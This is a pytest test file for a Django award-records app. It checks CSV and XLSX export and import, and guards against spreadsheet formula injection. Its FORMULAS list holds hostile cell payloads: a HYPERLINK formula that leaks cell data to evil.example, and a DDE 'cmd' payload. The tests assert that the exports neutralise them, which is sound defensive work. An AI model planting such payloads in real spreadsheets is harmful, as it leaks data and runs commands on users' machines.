import csv
import zipfile
from io import StringIO

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from awards.models import AwardRecipient
from tests.factories import make_decision, make_organization, make_person

pytestmark = pytest.mark.django_db


def fill(decision):
    AwardRecipient.objects.create(
        decision=decision, organization=make_organization("Công an phường Minh Khai"), order=1
    )
    AwardRecipient.objects.create(
        decision=decision,
        person=make_person("Nguyễn Văn Hùng"),
        position_as_written="Trưởng Công an",
        unit_as_written="phường Minh Khai",
        achievement="Xuất sắc",
        order=2,
    )


def test_export_then_import_gives_the_same_honour_roll(tmp_path):
    original = make_decision()
    fill(original)
    path = tmp_path / "khen-thuong.csv"
    call_command("export_awards", path, stdout=StringIO(), stderr=StringIO())

    copy = make_decision("9999/QĐ-UBND", authority=original.authority)
    call_command("import_award_recipients", path, "--decision", copy.pk, stdout=StringIO())

    def roll(decision):
        return [
            (
                r.organization_id,
                r.person_id,
                r.position_as_written,
                r.unit_as_written,
                r.achievement,
                r.order,
            )
            for r in decision.recipients.all()
        ]

    assert roll(copy) == roll(original)


def test_xlsx_export_with_a_year_filter(tmp_path):
    fill(make_decision())
    old = make_decision(
        "1/QĐ-UBND",
        authority=make_organization("UBND phường"),
        decided_on=__import__("datetime").date(2021, 1, 5),
    )
    AwardRecipient.objects.create(decision=old, person=make_person("Trần Thị Lan"))
    path = tmp_path / "2023.xlsx"
    err = StringIO()
    call_command("export_awards", path, "--year", "2023", stderr=err)
    rows = list(load_workbook(path).active.iter_rows(values_only=True))
    assert rows[0][:6] == (
        "Số quyết định",
        "Ngày ký",
        "Hình thức",
        "Cơ quan khen",
        "Loại",
        "Họ tên / Tên tập thể",
    )
    assert [r[5] for r in rows[1:]] == ["Công an phường Minh Khai", "Nguyễn Văn Hùng"]
    assert rows[1][1] == "24/05/2023" and rows[1][4] == "Tập thể"
    assert "Wrote 2 recipients" in err.getvalue()


def test_csv_export_opens_in_excel_as_utf8(tmp_path):
    fill(make_decision())
    path = tmp_path / "ds.csv"
    call_command("export_awards", path, stderr=StringIO())
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[2][5:8] == ["Nguyễn Văn Hùng", "Trưởng Công an", "phường Minh Khai"]


# What a spreadsheet runs as a formula when a cell begins with it.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "- Hoàn thành xuất sắc nhiệm vụ",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",  # already marked by hand: kept as typed
]


def fill_with_formulas(decision):
    for order, text in enumerate(FORMULAS, start=1):
        AwardRecipient.objects.create(
            decision=decision,
            person=make_person(f"{text} {order}"),
            position_as_written=text,
            unit_as_written=text,
            achievement=text,
            order=order,
        )


def test_the_csv_export_marks_text_that_a_spreadsheet_would_run(tmp_path):
    fill_with_formulas(make_decision("=1+1/QĐ-UBND"))
    path = tmp_path / "ds.csv"
    call_command("export_awards", path, stderr=StringIO())
    rows = list(csv.reader(path.read_bytes().decode("utf-8-sig").splitlines()))
    for row in rows[1:]:
        assert row[0] == "'=1+1/QĐ-UBND"
        text = FORMULAS[int(row[9]) - 1]
        assert row[5:9] == ["'" + f"{text} {row[9]}", "'" + text, "'" + text, "'" + text]
    assert rows[1][1:5] == ["24/05/2023", "Giấy khen", rows[1][3], "Cá nhân"]  # left alone


def test_the_xlsx_export_writes_every_text_as_text_never_a_formula(tmp_path):
    fill_with_formulas(make_decision("=1+1/QĐ-UBND"))
    path = tmp_path / "ds.xlsx"
    call_command("export_awards", path, stderr=StringIO())
    sheet = load_workbook(path).active
    assert "<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    for row in sheet.iter_rows(min_row=2):
        assert (row[0].value, row[0].data_type) == ("=1+1/QĐ-UBND", "s")
        assert [cell.value for cell in row[6:9]] == [FORMULAS[row[9].value - 1]] * 3
        assert {cell.data_type for cell in row[:9]} == {"s"}


@pytest.mark.parametrize("name", ["ds.csv", "ds.xlsx"])
def test_text_that_looks_like_a_formula_comes_back_as_written_on_import(tmp_path, name):
    original = make_decision()
    fill_with_formulas(original)
    path = tmp_path / name
    call_command("export_awards", path, stdout=StringIO(), stderr=StringIO())
    copy = make_decision("9999/QĐ-UBND", authority=original.authority)
    call_command("import_award_recipients", path, "--decision", copy.pk, stdout=StringIO())

    def roll(decision):
        return list(
            decision.recipients.values_list(
                "person__full_name", "position_as_written", "unit_as_written", "achievement"
            )
        )

    assert roll(copy) == roll(original)
    assert roll(copy)[0][3] == FORMULAS[0]
